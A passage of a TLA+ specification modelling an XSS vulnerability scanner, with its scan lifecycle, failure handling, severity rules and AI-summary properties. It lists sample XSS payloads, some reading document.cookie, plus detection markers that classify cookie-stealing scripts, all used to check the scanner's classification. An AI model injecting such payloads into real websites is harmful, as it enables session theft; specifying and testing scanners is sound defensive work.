          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "except"]
          /\ UNCHANGED scan_results
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, handlers, clock, probe>>

\* Except that rolls back: it also deletes the stored Vulnerability records
\* of the scan
ExceptRollsBack(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "except"
    /\ \/ /\ scan_results' = UpdateOne(scan_results, t.req.id,
                [status |-> "failed", completed_at |-> Some(clock)])
          /\ vulnerabilities' =
                SelectSeq(vulnerabilities, LAMBDA v : v.scan_id # t.req.id)
          /\ tasks' = [tasks EXCEPT ![i].pc = "done"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "crashed"]
          /\ UNCHANGED <<scan_results, vulnerabilities>>
    /\ UNCHANGED <<XSS_PAYLOADS, scans, handlers, clock, probe>>

\* Except that also records how many findings were analysed before the
\* error
ExceptRecordingProgress(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "except"
    /\ \/ /\ scan_results' = UpdateOne(scan_results, t.req.id,
                [status |-> "failed", completed_at |-> Some(clock),
                 total_vulnerabilities |-> t.n_analyzed])
          /\ tasks' = [tasks EXCEPT ![i].pc = "done"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "crashed"]
          /\ UNCHANGED scan_results
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, handlers, clock, probe>>

\* the except clause of background_scan: the update to failed completes, or
\* raises and the exception leaves the task
Except(i) ==
    LET t == tasks[i] IN
    /\ t.pc = "except"
    /\ \/ /\ scan_results' = UpdateOne(scan_results, t.req.id,
                [status |-> "failed", completed_at |-> Some(clock)])
          /\ tasks' = [tasks EXCEPT ![i].pc = "done"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ tasks' = [tasks EXCEPT ![i].pc = "crashed"]
          /\ UNCHANGED scan_results
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, handlers, clock, probe>>

\* time passes
Tick ==
    /\ clock < MaxClock
    /\ clock' = clock + 1
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
                   faults, probe>>

Next ==
    \/ \E body \in Bodies, id \in ScanIds : CreateScanStoreRequest(body, id)
    \/ \E h \in 1..Len(handlers) : CreateScanStoreResult(h)
    \/ \E i \in 1..Len(tasks) : StartScan(i)
    \/ \E i \in 1..Len(tasks), fetched \in PlainOutcomes : Fetch(i, fetched)
    \/ \E i \in 1..Len(tasks) : Technical(i)
    \/ \E i \in 1..Len(tasks) : Remediation(i)
    \/ \E i \in 1..Len(tasks) : InsertVulnerability(i)
    \/ \E i \in 1..Len(tasks) : ExecutiveSummary(i)
    \/ \E i \in 1..Len(tasks) : Finalize(i)
    \/ \E i \in 1..Len(tasks) : Except(i)

\* Concurrent scans.  Time does not pass in this specification: every
\* timestamp it records is the same instant (SpecSolo lets the clock advance).
Spec == Init /\ [][Next]_vars

-----------------------------------------------------------------------------
(* One scan followed alone: the state create_scan leaves for one request,  *)
(* and the steps of its background task                                    *)

InitSolo ==
    \E body \in SoloBodies :
        LET req == ScanRequest(body, "s1", 0) IN
        /\ XSS_PAYLOADS = Catalog
        /\ scans = InsertOne(<<>>, req)
        /\ scan_results = InsertOne(<<>>, NewScanResult(req.id, ResultUuid(1)))
        /\ vulnerabilities = <<>>
        /\ handlers = <<>>
        /\ tasks = <<NewTask(1, req)>>
        /\ clock = 0
        /\ faults = 0
        /\ probe = NoProbe

NextSolo ==
    \/ StartScan(1)
    \/ \E fetched \in FetchOutcomes : Fetch(1, fetched)
    \/ Technical(1)
    \/ Remediation(1)
    \/ InsertVulnerability(1)
    \/ ExecutiveSummary(1)
    \/ Finalize(1)
    \/ Except(1)
    \/ Tick

SpecSolo == InitSolo /\ [][NextSolo]_vars

-----------------------------------------------------------------------------
(* The scanning functions called on their own: Init draws one call, an     *)
(* action makes it and records what it returned                            *)

\* payloads to test, each with what reading it shows: marked = it holds one
\* of <script, onerror=, onload=, javascript: in any letter case; steals = it
\* holds document.cookie or fetch( ; alerts = it holds alert(
Sample(payload, marked, steals, alerts) ==
    [payload |-> payload, marked |-> marked, steals |-> steals, alerts |-> alerts]

Samples ==
    { Sample(Catalog.basic[1], TRUE, FALSE, TRUE),
      Sample(Catalog.basic[2], TRUE, FALSE, TRUE),
      Sample(Catalog.basic[3], TRUE, FALSE, TRUE),
      Sample(Catalog.basic[4], TRUE, FALSE, TRUE),
      Sample(Catalog.basic[5], TRUE, FALSE, TRUE),
      Sample(Catalog.advanced[1], TRUE, TRUE, FALSE),
      Sample(Catalog.advanced[2], TRUE, TRUE, FALSE),
      Sample(Catalog.advanced[3], TRUE, FALSE, FALSE),
      Sample(Catalog.advanced[4], TRUE, FALSE, FALSE),
      Sample(Catalog.advanced[5], FALSE, FALSE, TRUE),
      Sample(Catalog.evasion[1], TRUE, FALSE, TRUE),
      Sample(Catalog.evasion[2], TRUE, FALSE, FALSE),
      Sample(Catalog.evasion[3], TRUE, FALSE, FALSE),
      Sample(Catalog.evasion[4], TRUE, FALSE, TRUE),
      Sample(Catalog.evasion[5], TRUE, FALSE, TRUE),
      Sample("<script>fetch('/x');alert(1)</script>", TRUE, TRUE, TRUE),
      Sample("<img src=x ONERROR=alert(document.cookie)>", TRUE, TRUE, TRUE),
      Sample("<SCRIPT>ALERT(1)</SCRIPT>", TRUE, FALSE, FALSE),
      Sample("JAVASCRIPT:void(0)", TRUE, FALSE, FALSE),
      Sample("<body OnLoad=x()>", TRUE, FALSE, FALSE),
      Sample("Fetch(document.Cookie) onload=", TRUE, FALSE, FALSE),
      Sample("<scr<script>ipt>alert(1)", TRUE, FALSE, TRUE),
      Sample("document.cookie", FALSE, TRUE, FALSE),
      Sample("fetch(1)", FALSE, TRUE, FALSE),
      Sample("alert(1)", FALSE, FALSE, TRUE),
      Sample("onerror =alert(1)", FALSE, FALSE, TRUE),
      Sample("<b>bold</b>", FALSE, FALSE, FALSE),
      Sample("", FALSE, FALSE, FALSE) }

SurfaceKinds == {"form_input", "url_parameter"}

\* target URLs, each with the names of the parameters of its query string
Target(url, params) == [url |-> url, params |-> params]

Targets ==
    { Target(UrlPlain, <<>>),
      Target(UrlQuery, <<"q">>),
      Target("https://T.io:8080/a/b?id=7&flag&lang=en", <<"id", "lang">>) }

\* fetched pages, each with the parameter names of its text-like fields
Page(forms, fields) == [forms |-> forms, fields |-> fields]

PageLogin ==
    << Form(None, << Field("input", Some("user"), None),
                     Field("input", Some("pass"), Some("password")),
                     Field("input", Some("csrf"), Some("hidden")),
                     Field("textarea", Some("bio"), None),
                     Field("select", None, None) >>),
       Form(Some("https://o.io/subscribe"), << Field("input", Some("mail"), Some("email")),
                                               Field("input", Some("ok"), Some("checkbox")) >>) >>

ProbePages ==
    { Page(PageNoForm, <<>>),
      Page(PageSearch, <<"q">>),
      Page(PageLogin, <<"user", "pass", "bio", "unknown", "mail">>) }

CustomLists ==
    { None,
      Some(<<>>),
      Some(<<"<b>bold</b>", "<SCRIPT>ALERT(1)</SCRIPT>">>),
      Some(<<"p1 onload=", "p2", "<script>3", "p4 fetch(", "javascript:5", "onerror=6", "<script>7">>) }

\* scan_type and custom_payloads of the requests to scan with
Selections ==
    {<<"custom", custom>> : custom \in CustomLists}
        \cup {<<type, custom>> : type \in {"quick", "comprehensive"},
                                 custom \in {None, Some(<<"<script>7">>)}}

\* a call of test_payload
TestProbe(sample, kind) ==
    [fn |-> "test_payload", sample |-> sample, vuln_type |-> kind, out |-> None]

\* a call of perform_xss_scan and the fetch outcome it meets
ScanProbe(target, page, sel, forms, urls, raised) ==
    [fn      |-> "perform_xss_scan",
     target  |-> target,
     page    |-> page,
     req     |-> ScanRequest(Request(target.url, sel[1], sel[2], forms, urls), "s1", 0),
     fetched |-> IF raised THEN FetchRaised ELSE Fetched(200, page.forms),
     out     |-> None]

Probes ==
    {TestProbe(sample, kind) : sample \in Samples, kind \in SurfaceKinds}
        \cup {ScanProbe(target, page, sel, forms, urls, FALSE) :
                target \in Targets, page \in ProbePages, sel \in Selections,
                forms \in BOOLEAN, urls \in BOOLEAN}
        \cup {ScanProbe(target, Page(PageSearch, <<"q">>), sel, TRUE, TRUE, TRUE) :
                target \in Targets, sel \in Selections}

InitFn ==
    /\ XSS_PAYLOADS = Catalog
    /\ scans = <<>>
    /\ scan_results = <<>>
    /\ vulnerabilities = <<>>
    /\ handlers = <<>>
    /\ tasks = <<>>
    /\ clock = 0
    /\ faults = 0
    /\ probe \in Probes

\* test_payload is called and returns
CallTestPayload ==
    /\ probe.fn = "test_payload"
    /\ probe.out = None
    /\ probe' = [probe EXCEPT !.out =
            Some(TestPayload("s1", UrlQuery, "q", probe.sample.payload, probe.vuln_type,
                             VulnUuid(1, 1), clock))]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
                   clock, faults>>

\* perform_xss_scan is called and returns; out records the payloads it
\* selected (when it got that far), the test_payload calls it made and the
\* list it returned
CallPerformXssScan ==
    /\ probe.fn = "perform_xss_scan"
    /\ probe.out = None
    /\ probe' = [probe EXCEPT !.out =
            Some([payloads        |-> IF probe.fetched.raised THEN None
                                      ELSE Some(SelectPayloads(probe.req, XSS_PAYLOADS)),
                  calls           |-> ScanCalls(probe.req, probe.fetched, XSS_PAYLOADS),
                  vulnerabilities |-> PerformXssScan(probe.req, probe.fetched,
                                                     XSS_PAYLOADS, 1, clock)])]
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
                   clock, faults>>

NextFn ==
    \/ CallTestPayload
    \/ CallPerformXssScan

SpecFn == InitFn /\ [][NextFn]_vars

-----------------------------------------------------------------------------
(* Properties *)

Terminal == {"completed", "failed"}

\* the ScanResult GET /scans/{scan_id}/result reads: find_one by scan_id
StatusOf(scan_id) == Get(FindOne(scan_results, scan_id)).status

\* C1: the status of every stored ScanResult changes only along
\* pending -> running, running -> completed and running -> failed, whatever
\* submits and task steps happen and whichever external calls raise.
C1_StatusTransitions ==
    [][\A k \in 1..Len(scan_results) :
          scan_results'[k].status # scan_results[k].status =>
              <<scan_results[k].status, scan_results'[k].status>> \in
                  {<<"pending", "running">>, <<"running", "completed">>,
                   <<"running", "failed">>}]_vars

\* C2: every scheduled scan ends completed or failed.  Stated on the end of
\* the task: once the background task of a scan has finished, no step of that
\* scan is left, so the status its ScanResult has then is the one it keeps.
C2_FinishedScanIsTerminal ==
    \A i \in 1..Len(tasks) :
        Finished(tasks[i]) => StatusOf(tasks[i].req.id) \in Terminal

\* C3: when create_scan has returned for a request and no step of its
\* background task has run yet, a lookup by the request's id finds a
\* ScanResult of that scan_id with status pending.
C3_PendingAfterSubmit ==
    \A i \in 1..Len(tasks) :
        tasks[i].pc = "start" =>
            /\ FindOne(scan_results, tasks[i].req.id) # None
            /\ Get(FindOne(scan_results, tasks[i].req.id)).scan_id = tasks[i].req.id
            /\ StatusOf(tasks[i].req.id) = "pending"

\* C4: every completed ScanResult has total_vulnerabilities equal to the sum of
\* its four severity counts.
C4_TotalIsSumOfCounts ==
    \A k \in 1..Len(scan_results) :
        scan_results[k].status = "completed" =>
            scan_results[k].total_vulnerabilities =
                scan_results[k].critical_count + scan_results[k].high_count
                    + scan_results[k].medium_count + scan_results[k].low_count

\* a scan completed with findings of two different severities
C4_Witness ==
    \E k \in 1..Len(scan_results) :
        /\ scan_results[k].status = "completed"
        /\ scan_results[k].high_count >= 1
        /\ scan_results[k].medium_count >= 1
        /\ Len(vulnerabilities) = scan_results[k].total_vulnerabilities

\* C5: every completed ScanResult has ai_risk_score 0, 2, 4, 6, 8 for zero to
\* four findings and 10 for five or more.
C5_RiskScore ==
    \A k \in 1..Len(scan_results) :
        scan_results[k].status = "completed" =>
            LET total == scan_results[k].total_vulnerabilities
            IN  scan_results[k].ai_risk_score =
                    Some(CASE total = 0 -> 0 [] total = 1 -> 2 [] total = 2 -> 4
                           [] total = 3 -> 6 [] total = 4 -> 8 [] total >= 5 -> 10)

\* a scan completed with more than five findings, where the cap applies
C5_Witness ==
    \E k \in 1..Len(scan_results) :
        /\ scan_results[k].status = "completed"
        /\ scan_results[k].total_vulnerabilities > 5
        /\ scan_results[k].ai_risk_score = Some(10)

\* C10: a scan whose target fetch raised, and that met no other fault, is
\* never on the failure path, has found nothing and has stored no
\* Vulnerability; when its task has finished, its ScanResult is completed with
\* total and all severity counts 0 and scan_duration recorded.
C10_FetchFailureCompletesEmpty ==
    \A i \in 1..Len(tasks) :
        (tasks[i].fetched = Some(FetchRaised) /\ faults = 1) =>
            /\ tasks[i].pc \in {"finalize", "done"}
            /\ tasks[i].vulnerabilities = <<>>
            /\ Matching(vulnerabilities, tasks[i].req.id) = {}
            /\ tasks[i].pc = "done" =>
                LET result == Get(FindOne(scan_results, tasks[i].req.id))
                IN  /\ result.status = "completed"
                    /\ result.total_vulnerabilities = 0
                    /\ result.critical_count = 0
                    /\ result.high_count = 0
                    /\ result.medium_count = 0
                    /\ result.low_count = 0
                    /\ result.scan_duration # None
                    /\ Get(result.scan_duration) >= 0

\* the fetch raised for a scan of a URL with a query parameter and
\* include_urls set, and the scan has been recorded completed
C10_Witness ==
    \E i \in 1..Len(tasks) :
        /\ tasks[i].fetched = Some(FetchRaised)
        /\ faults = 1
        /\ tasks[i].pc = "done"
        /\ tasks[i].req.include_urls
        /\ Contains(tasks[i].req.target_url, "?")
        /\ tasks[i].req.scan_type = "quick"
        /\ StatusOf(tasks[i].req.id) = "completed"

\* the calls of test_payload and of perform_xss_scan that have returned
TestDone == probe.fn = "test_payload" /\ probe.out # None

ScanDone == probe.fn = "perform_xss_scan" /\ probe.out # None

\* C6: every Vulnerability test_payload returns is critical if its payload
\* holds document.cookie or fetch( (also when it holds alert( too), otherwise
\* medium if it holds alert( , otherwise high; it is never low.
C6_SeverityChain ==
    (TestDone /\ Get(probe.out) # None) =>
        LET severity == Get(Get(probe.out)).severity
        IN  /\ severity = IF probe.sample.steals THEN "critical"
                          ELSE IF probe.sample.alerts THEN "medium"
                          ELSE "high"
            /\ severity # "low"

\* a payload holding both fetch( and alert( has been classified critical
C6_Witness ==
    /\ TestDone
    /\ probe.sample.steals
    /\ probe.sample.alerts
    /\ Get(probe.out) # None
    /\ Get(Get(probe.out)).severity = "critical"

\* C7: test_payload returns a Vulnerability exactly for the payloads that hold
\* <script, onerror=, onload= or javascript: in any letter case (none for the
\* catalog's <details open ontoggle=...> entry), and its vulnerability_type is
\* XSS_form_input or XSS_url_parameter according to the surface kind.
C7_CandidateIffMarked ==
    TestDone =>
        /\ (Get(probe.out) # None) <=> probe.sample.marked
        /\ probe.sample.payload = "<details open ontoggle=alert('XSS')>" =>
                Get(probe.out) = None
        /\ Get(probe.out) # None =>
                Get(Get(probe.out)).vulnerability_type =
                    IF probe.vuln_type = "form_input" THEN "XSS_form_input"
                    ELSE "XSS_url_parameter"

\* a payload that holds a marker only in upper case has produced a finding
C7_Witness ==
    /\ TestDone
    /\ probe.sample.payload = "<SCRIPT>ALERT(1)</SCRIPT>"
    /\ probe.vuln_type = "url_parameter"
    /\ Get(probe.out) # None
    /\ Get(Get(probe.out)).vulnerability_type = "XSS_url_parameter"

\* C8: a scan that got past the fetch selects, for quick, the first three
\* basic payloads; for comprehensive, the fifteen payloads basic, advanced,
\* evasion in that order; for custom, the caller's custom_payloads in the
\* caller's order (none when there are none); and XSS_PAYLOADS never changes.
C8_PayloadSelection ==
    /\ XSS_PAYLOADS = Catalog
    /\ (ScanDone /\ ~probe.fetched.raised) =>
        Get(probe.out).payloads = Some(
            CASE probe.req.scan_type = "quick" ->
                    <<Catalog.basic[1], Catalog.basic[2], Catalog.basic[3]>>
              [] probe.req.scan_type = "comprehensive" ->
                    <<Catalog.basic[1], Catalog.basic[2], Catalog.basic[3],
                      Catalog.basic[4], Catalog.basic[5],
                      Catalog.advanced[1], Catalog.advanced[2], Catalog.advanced[3],
                      Catalog.advanced[4], Catalog.advanced[5],
                      Catalog.evasion[1], Catalog.evasion[2], Catalog.evasion[3],
                      Catalog.evasion[4], Catalog.evasion[5]>>
              [] probe.req.scan_type = "custom" ->
                    IF probe.req.custom_payloads = None THEN <<>>
                    ELSE Get(probe.req.custom_payloads))

\* a quick scan that also carries custom payloads has selected three payloads
C8_Witness ==
    /\ ScanDone
    /\ probe.req.scan_type = "quick"
    /\ probe.req.custom_payloads # None
    /\ Get(probe.out).payloads # None
    /\ Len(Get(Get(probe.out).payloads)) = 3

\* the payloads of the calls made for one surface, in call order
PayloadsTested(calls, kind, parameter) ==
    LET mine == SelectSeq(calls, LAMBDA c : c.vuln_type = kind /\ c.parameter = parameter)
    IN  [k \in 1..Len(mine) |-> mine[k].payload]

\* C9: in a scan that got past the fetch and selected n payloads, every URL
\* parameter is tested against the first min(5, n) of them and every
\* text-like form field against all n, and nothing else is tested.
C9_TestsPerSurface ==
    (ScanDone /\ ~probe.fetched.raised) =>
        LET out      == Get(probe.out)
            payloads == Get(out.payloads)
            n        == Len(payloads)
            params   == IF probe.req.include_urls THEN probe.target.params ELSE <<>>
            fields   == IF probe.req.include_forms THEN probe.page.fields ELSE <<>>
        IN  /\ \A k \in 1..Len(params) :
                  PayloadsTested(out.calls, "url_parameter", params[k]) =
                      SubSeq(payloads, 1, IF n < 5 THEN n ELSE 5)
            /\ \A k \in 1..Len(fields) :
                  PayloadsTested(out.calls, "form_input", fields[k]) = payloads
            /\ Len(out.calls) = Len(params) * (IF n < 5 THEN n ELSE 5) + Len(fields) * n

\* a comprehensive scan has tested a URL parameter 5 times and a form field 15
\* times
C9_Witness ==
    /\ ScanDone
    /\ probe.req.scan_type = "comprehensive"
    /\ probe.req.include_urls
    /\ probe.req.include_forms
    /\ Len(PayloadsTested(Get(probe.out).calls, "url_parameter", "q")) = 5
    /\ Len(PayloadsTested(Get(probe.out).calls, "form_input", "q")) = 15

\* whether an HTTP status is one of the 2xx statuses
IsSuccessStatus(status) == status \in 200..299

\* C11: a scan whose target fetch returned a non-2xx status has found
\* nothing, whatever forms the returned body holds and whatever query
\* parameters the target URL has.
C11_NonSuccessStatusFindsNothing ==
    \A i \in 1..Len(tasks) :
        (/\ tasks[i].fetched # None
         /\ ~Get(tasks[i].fetched).raised
         /\ ~IsSuccessStatus(Get(tasks[i].fetched).status)) =>
            /\ tasks[i].vulnerabilities = <<>>
            /\ Matching(vulnerabilities, tasks[i].req.id) = {}

\* the oracle calls task t has made for its k-th finding under a persona
CallsFor(t, persona, k) ==
    LET prefix == IF persona = "technical" THEN "vuln_analysis_" ELSE "remediation_"
    IN  {c \in 1..Len(t.oracle_calls) :
            /\ t.oracle_calls[c].persona = persona
            /\ t.oracle_calls[c].session_id = prefix \o t.vulnerabilities[k].id}

\* the call of that persona for the k-th finding of t was made and raised
CallFailed(t, persona, k) ==
    \E c \in CallsFor(t, persona, k) : ~t.oracle_calls[c].ok

\* the call of that persona for the k-th finding of t was made and returned
CallReturned(t, persona, k) ==
    \E c \in CallsFor(t, persona, k) : t.oracle_calls[c].ok

\* the stored Vulnerability records with that id
StoredById(id) == {j \in 1..Len(vulnerabilities) : vulnerabilities[j].id = id}

\* C12: when the technical-analysis call of a finding raised and nothing else
\* did, the scan is never on the failure path and its ScanResult is never
\* failed, the finding has the fallback ai_summary from then on, and once the
\* task has finished the scan is completed, every finding of the scan is
\* stored exactly once, the finding whose call raised is stored with the
\* fallback ai_summary, and every other finding is stored with the oracle's
\* texts in both fields.
C12_TechnicalFailureKeepsScanning ==
    \A i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        \A k \in 1..Len(t.vulnerabilities) :
            (CallFailed(t, "technical", k) /\ faults = 1) =>
                /\ t.pc \notin {"except", "crashed"}
                /\ StatusOf(t.req.id) # "failed"
                /\ t.vulnerabilities[k].ai_summary = Some(FallbackSummary)
                /\ t.pc = "done" =>
                    /\ StatusOf(t.req.id) = "completed"
                    /\ \A m \in 1..Len(t.vulnerabilities) :
                        /\ Cardinality(StoredById(t.vulnerabilities[m].id)) = 1
                        /\ \A j \in StoredById(t.vulnerabilities[m].id) :
                            /\ vulnerabilities[j] = t.vulnerabilities[m]
                            /\ IF m = k
                               THEN vulnerabilities[j].ai_summary = Some(FallbackSummary)
                               ELSE /\ vulnerabilities[j].ai_summary \in
                                            {Some(text) : text \in OracleTexts}
                                    /\ vulnerabilities[j].remediation_suggestion \in
                                            {Some(text) : text \in OracleTexts}

\* a finished scan with three findings or more whose technical call raised
\* for a finding that is neither the first nor the last
C12_Witness ==
    \E i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        /\ t.pc = "done"
        /\ faults = 1
        /\ Len(t.vulnerabilities) >= 3
        /\ \E k \in 2..(Len(t.vulnerabilities) - 1) :
            /\ CallFailed(t, "technical", k)
            /\ \E j \in StoredById(t.vulnerabilities[k].id) :
                    vulnerabilities[j].ai_summary = Some(FallbackSummary)
        /\ StatusOf(t.req.id) = "completed"

\* C13: once a finding has been analysed, a raising remediation call after a
\* returning technical call leaves the oracle's technical text in ai_summary,
\* and a raising technical call is followed by a remediation call for the
\* same finding.
C13_IndependentEnrichmentCalls ==
    \A i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        \A k \in 1..t.n_analyzed :
            /\ (CallReturned(t, "technical", k) /\ CallFailed(t, "remediation", k)) =>
                    /\ t.vulnerabilities[k].ai_summary \in {Some(text) : text \in OracleTexts}
                    /\ t.vulnerabilities[k].remediation_suggestion = Some(FallbackRemediation)
            /\ CallFailed(t, "technical", k) => CallsFor(t, "remediation", k) # {}

\* task t has made a text-generation call that raised
SomeCallFailed(t) == \E c \in 1..Len(t.oracle_calls) : ~t.oracle_calls[c].ok

\* C14: a scan whose only fault is a raising text-generation call (the
\* technical, the remediation or the executive-summary call) is never on the
\* failure path, and its ScanResult is completed once its task has finished.
C14_NoOracleFailureFailsTheScan ==
    \A i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        (SomeCallFailed(t) /\ faults = 1) =>
            /\ t.pc \notin {"except", "crashed"}
            /\ StatusOf(t.req.id) # "failed"
            /\ t.pc = "done" => StatusOf(t.req.id) = "completed"

\* C15: a scan without findings has made no oracle call, and when it is
\* completed its ai_executive_summary is the fixed sentence; a completed scan
\* with findings has made one executive-summary call, under the session of
\* the scan, and its ai_executive_summary is the text that call returned.
C15_ExecutiveSummary ==
    \A i \in 1..Len(tasks) :
        LET t      == tasks[i]
            result == Get(FindOne(scan_results, t.req.id))
        IN  /\ t.vulnerabilities = <<>> => t.oracle_calls = <<>>
            /\ result.status = "completed" =>
                IF t.vulnerabilities = <<>>
                THEN result.ai_executive_summary = Some(NoVulnerabilitiesSummary)
                ELSE /\ t.oracle_calls[Len(t.oracle_calls)] =
                            OracleCall("executive_summary",
                                       "executive_summary_" \o t.req.id, TRUE)
                     /\ Cardinality({c \in 1..Len(t.oracle_calls) :
                            t.oracle_calls[c].persona = "executive_summary"}) = 1
                     /\ t.executive_summary \in {Some(text) : text \in OracleTexts}
                     /\ result.ai_executive_summary = t.executive_summary

\* a scan whose fetch returned with status 200, whose tests found nothing, and
\* that is completed with the fixed sentence and no oracle call
C15_Witness ==
    \E i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        /\ t.fetched = Some([raised |-> FALSE, status |-> 200])
        /\ t.vulnerabilities = <<>>
        /\ t.oracle_calls = <<>>
        /\ t.pc = "done"
        /\ StatusOf(t.req.id) = "completed"
        /\ Get(FindOne(scan_results, t.req.id)).ai_executive_summary =
                Some(NoVulnerabilitiesSummary)

\* C16: when an error has escaped to the except clause of background_scan
\* while the scan was running and the update of that clause returns, the
\* ScanResult goes from running to failed with completed_at set to the time
\* of the update; neither the step on which the error escapes nor the update
\* touches a stored Vulnerability, and no later step removes or changes one.
C16_EscapingErrorFailsAndRetains ==
    [][/\ \A i \in 1..Len(tasks) :
            LET t      == tasks[i]
                result == Get(FindOne(scan_results, t.req.id))
                after  == Get(FindOne(scan_results', t.req.id))
            IN  /\ (t.pc # "except" /\ tasks'[i].pc = "except") =>
                        /\ vulnerabilities' = vulnerabilities
                        /\ scan_results' = scan_results
                /\ (/\ t.pc = "except"
                    /\ tasks'[i].pc = "done"
                    /\ result.status = "running") =>
                        /\ after.status = "failed"
                        /\ after.completed_at = Some(clock)
                        /\ vulnerabilities' = vulnerabilities
       /\ Len(vulnerabilities') >= Len(vulnerabilities)
       /\ SubSeq(vulnerabilities', 1, Len(vulnerabilities)) = vulnerabilities]_vars

\* the second insert of a scan with two findings or more raised: the scan is
\* failed with completed_at set and the finding stored before is still there
C16_Witness ==
    \E i \in 1..Len(tasks) :
        LET t      == tasks[i]
            result == Get(FindOne(scan_results, t.req.id))
        IN  /\ t.pc = "done"
            /\ faults = 1
            /\ ~SomeCallFailed(t)
            /\ t.idx = 2
            /\ result.status = "failed"
            /\ result.started_at # None
            /\ result.completed_at # None
            /\ Len(vulnerabilities) = 1
            /\ vulnerabilities[1] = t.vulnerabilities[1]

-----------------------------------------------------------------------------
(* The handlers that read: get_scan_result, get_scan_vulnerabilities and    *)
(* ai_triage_vulnerabilities.  The handler in flight and, once it has       *)
(* responded, its response are kept in probe.                                *)

Alphabet == "abcdefghijklmnopqrstuvwxyz"

\* the code point of a lower-case letter, counted from 'a'
CodePoint(c) == FindFrom(Alphabet, c, 1)

\* a < b for two strings of lower-case letters, compared code point by code
\* point as the store compares strings when it sorts
RECURSIVE StrLess(_, _)
StrLess(a, b) ==
    IF Len(b) = 0 THEN FALSE
    ELSE IF Len(a) = 0 THEN TRUE
    ELSE IF Head(a) # Head(b) THEN CodePoint(Head(a)) < CodePoint(Head(b))
    ELSE StrLess(Tail(a), Tail(b))

\* SortKeyLess for sort("severity", -1)
SortKeyLessDescending(a, b) == StrLess(b.severity, a.severity)

\* the order sort("severity", 1) puts two documents in
SortKeyLess(a, b) == StrLess(a.severity, b.severity)

\* the orders in which the store may return the documents at the given
\* positions of a collection when it sorts them: every arrangement in which
\* no document comes before one with a smaller key (documents with equal
\* keys come in any order)
SortedOrders(coll, positions) ==
    LET n == Cardinality(positions)
    IN  {order \in [1..n -> positions] :
            /\ \A p \in positions : \E k \in 1..n : order[k] = p
            /\ \A k \in 1..n, m \in 1..n :
                    k < m => ~SortKeyLess(coll[order[m]], coll[order[k]])}

ListLimit == 1000

\* the response of a handler: HTTP status code and body
Response(kind, args, status_code, body) ==
    [kind |-> kind, pc |-> "responded", args |-> args,
     status_code |-> status_code, body |-> body]

\* what FastAPI answers when an exception other than HTTPException leaves a
\* handler
ServerError == "Internal Server Error"

\* GetScanResult that stores and returns a new pending ScanResult when it
\* finds none
GetScanResultUpserting(scan_id) ==
    /\ probe = NoProbe
    /\ \/ /\ LET result == FindOne(scan_results, scan_id)
                 fresh  == NewScanResult(scan_id, ResultUuid(Len(scan_results) + 1))
             IN  IF result = None
                 THEN /\ probe' = Response("get_scan_result", scan_id, 200, fresh)
                      /\ scan_results' = InsertOne(scan_results, fresh)
                 ELSE /\ probe' = Response("get_scan_result", scan_id, 200, Get(result))
                      /\ UNCHANGED scan_results
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = Response("get_scan_result", scan_id, 500, ServerError)
          /\ UNCHANGED scan_results
    /\ UNCHANGED <<XSS_PAYLOADS, scans, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* GET /scans/{scan_id}/result: find_one returns or raises
GetScanResult(scan_id) ==
    /\ probe = NoProbe
    /\ \/ /\ probe' =
                LET result == FindOne(scan_results, scan_id)
                IN  IF result = None
                    THEN Response("get_scan_result", scan_id, 404, "Scan result not found")
                    ELSE Response("get_scan_result", scan_id, 200, Get(result))
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = Response("get_scan_result", scan_id, 500, ServerError)
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* GET /scans/{scan_id}/vulnerabilities: find().sort().to_list() returns or
\* raises
GetScanVulnerabilities(scan_id) ==
    /\ probe = NoProbe
    /\ \/ /\ \E order \in SortedOrders(vulnerabilities, Matching(vulnerabilities, scan_id)) :
                probe' = Response("get_scan_vulnerabilities", scan_id, 200,
                            Prefix([k \in DOMAIN order |-> vulnerabilities[order[k]]],
                                   ListLimit))
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = Response("get_scan_vulnerabilities", scan_id, 500, ServerError)
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the first stored Vulnerability with that id, as find_one({"id": ...}) gives it
FindVulnerability(vuln_id) ==
    LET found == {j \in 1..Len(vulnerabilities) : vulnerabilities[j].id = vuln_id}
    IN  IF found = {} THEN None
        ELSE Some(vulnerabilities[CHOOSE j \in found : \A m \in found : j <= m])

\* the except clause of ai_triage_vulnerabilities: "except Exception" catches
\* whatever was raised in the try, the HTTPException of the handler itself
\* included, and answers 500
TriageExcept(h, raised) ==
    [h EXCEPT !.pc = "responded", !.status_code = 500,
              !.body = "AI triage analysis failed", !.raised = raised]

\* POST /ai/triage arrives: the handler is at its first lookup, or, with no
\* id to look up, already at "if not vulnerabilities"
AiTriage(vulnerability_ids) ==
    /\ probe = NoProbe
    /\ probe' =
        LET h == [kind |-> "ai_triage", pc |-> "find", args |-> vulnerability_ids,
                  status_code |-> 0, body |-> "", k |-> 1, found |-> <<>>,
